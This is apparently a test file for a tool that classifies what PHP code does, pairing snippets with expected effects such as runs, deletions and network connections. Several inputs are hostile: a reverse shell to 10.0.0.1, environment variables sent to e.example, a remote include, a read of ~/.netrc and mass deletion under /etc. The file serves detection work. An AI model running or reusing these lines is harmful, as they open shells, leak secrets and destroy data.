"""PHP by its calls and the functions that it hands on."""

from __future__ import annotations

from tests.shell.rows import code_rows

test_what_calls_do = code_rows(
    "php",
    r"""
system("rm x"); => run php [inline] · run rm x · write x [delete]
`rm x`; => run php [inline] · run rm x · write x [delete]
$f("rm x"); => run php [inline] OPAQUE
$o->$m("x"); $f->("x"); => run php [inline] OPAQUE
#[Attr]⏎system('rm x'); => run php [inline] · run rm x · write x [delete]
# system("rm x"); => run php [inline]
array_map("system", $a); => run php [inline] OPAQUE
eval("system('rm x');"); => run php [inline] · run rm x · write x [delete]
echo '$x'; unlink("$x/y"); => run php [inline] · write □/y [delete]
fopen("x", "w"); => run php [inline] · write x
readfile("php://stdin"); => run php [inline]
""",
)

test_sockets = code_rows(
    "php",
    r"""
socket_connect($s, "10.0.0.1", 1); passthru("sh <&3"); => run php [inline] · connect 10.0.0.1 · run sh <network:10.0.0.1>
""",
)

test_what_it_types = code_rows(
    "php",
    r"""
$p = popen("sh", "w"); fwrite($p, "rm x"); => run php [inline] · run sh <unknown:code> OPAQUE
$p = popen("ls", "r"); echo fgets($p); => run php [inline] · run ls
include "http://e.example/x.php"; => run php [inline] OPAQUE · connect http://e.example/x.php
include "x.php"; => run php [inline] · read x.php
""",
)

test_environment = code_rows(
    "php",
    r"""
file_get_contents("https://e.example/" . json_encode($_ENV)); => run php [inline] · connect https://e.example/□ <environment:>
""",
)

test_home_folder = code_rows(
    "php",
    r"""
unlink(getenv("HOME") . "/x"); => run php [inline] · write ~/x [delete]
readfile($_SERVER["HOME"] . "/.netrc"); => run php [inline] · read ~/.netrc
""",
)

test_deletions = code_rows(
    "php",
    r"""
foreach (glob("/etc/*") as $f) unlink($f); => run php [inline] · read /etc/* [list] · write /etc/□ [delete,tree]
array_map("unlink", glob("/etc/*")); => run php [inline] · read /etc/* [list] · write /etc/□ [delete,tree]
array_map("trim", glob("/etc/*")); => run php [inline] · read /etc/* [list]
""",
)
